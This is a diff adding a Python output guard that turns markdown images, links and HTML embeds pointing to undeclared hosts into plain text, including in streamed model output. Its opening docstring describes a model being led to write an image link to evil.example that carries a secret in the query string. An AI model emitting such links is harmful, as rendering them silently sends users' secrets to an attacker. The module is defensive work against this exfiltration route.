@@ -1,0 +1,101 @@
+"""Answers made harmless before anyone renders them: pictures and links that would call home. Pure.
+
+Threat: a model that was told to write `![](https://evil.example/?q=SECRET)`: the moment a chat window renders it, the
+secret is sent, with no tool call to deny. Pictures to hosts nobody declared lose their address; links keep their words
+and show it as text.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from typing import Final
+from urllib.parse import urlsplit
+
+from agent_os.guards.models.neutral import Delta
+
+HELD_CHARS_MAX: Final = 8192
+"""A candidate longer than this is passed on with its bracket broken, so that no renderer takes it for a picture."""
+_TARGET: Final = r"\(\s*<?([^)\s>]*)[^)]*\)"
+_LINK: Final = re.compile(r"(!?)\[([^\]]*)\]" + _TARGET)
+_HTML: Final = re.compile(r"<\s*(?:img|iframe|object|embed|script|link|video|audio|source)\b[^>]*>", re.I)
+_OPENERS: Final = ("!", "[", "<")
+
+
+def defanged(text: str, allowed: Callable[[str], bool]) -> str:
+    """Return a text whose pictures and links to hosts not `allowed` are words. Relative targets stay."""
+
+    def link(match: re.Match[str]) -> str:
+        picture, words, target = match.groups()
+        if _harmless(target, allowed):
+            return match.group(0)
+        shown = target.replace("://", "[:]//").replace(".", "[.]")
+        return f"[picture withheld: {words or shown}]" if picture else f"{words} ({shown})"
+
+    return _HTML.sub("[embedded content withheld]", _LINK.sub(link, text))
+
+
+def _harmless(target: str, allowed: Callable[[str], bool]) -> bool:
+    try:
+        parts = urlsplit(target)
+        host = parts.hostname or ""
+    except ValueError:
+        return False
+    if parts.scheme == "" and not target.startswith("//"):
+        return True
+    return parts.scheme in ("http", "https", "mailto") and (parts.scheme == "mailto" or allowed(host))
+
+
+class Defang:
+    """The same for a stream: holds back what could still become a picture, a link or an element."""
+
+    def __init__(self, allowed: Callable[[str], bool]) -> None:
+        self._allowed, self._held = allowed, ""
+
+    def feed(self, delta: Delta) -> list[Delta]:
+        """Take one piece and return what may be shown now, in order."""
+        if delta.kind != "text":
+            return [*self.flush(), delta] if delta.kind in ("tool", "finish") else [delta]
+        text = self._held + delta.text
+        cut = _open_end(text)
+        self._held = text[cut:]
+        ready = defanged(text[:cut], self._allowed)
+        if len(self._held) > HELD_CHARS_MAX:
+            ready, self._held = ready + self._broken(), ""
+        return [Delta("text", ready)] if ready else []
+
+    def flush(self) -> list[Delta]:
+        """Return what was held when nothing more can come."""
+        held, self._held = defanged(self._held, self._allowed), ""
+        return [Delta("text", held)] if held else []
+
+    def _broken(self) -> str:
+        return defanged(self._held, self._allowed).replace("](", "] (").replace("<", "< ")
+
+
+def _open_end(text: str) -> int:
+    """Return where the last construct begins that is not closed yet; the length of the text if none is open."""
+    end = len(text)
+    begin = max(0, end - HELD_CHARS_MAX - 1)
+    for place in range(begin, end):
+        char = text[place]
+        if char not in _OPENERS:
+            continue
+        rest = text[place:]
+        if char == "<" and ">" not in rest:
+            return place
+        if char == "!" and (rest == "!" or (rest[1] == "[" and not _closed(rest[1:]))):
+            return place
+        if char == "[" and not _closed(rest):
+            return place
+    return end
+
+
+def _closed(rest: str) -> bool:
+    """Whether `[words](target)` at the start is complete, or can no longer become a link."""
+    words = rest.find("]")
+    if words < 0:
+        return "\n\n" in rest
+    if len(rest) == words + 1:
+        return False
+    return rest[words + 1] != "(" or ")" in rest[words + 1 :]
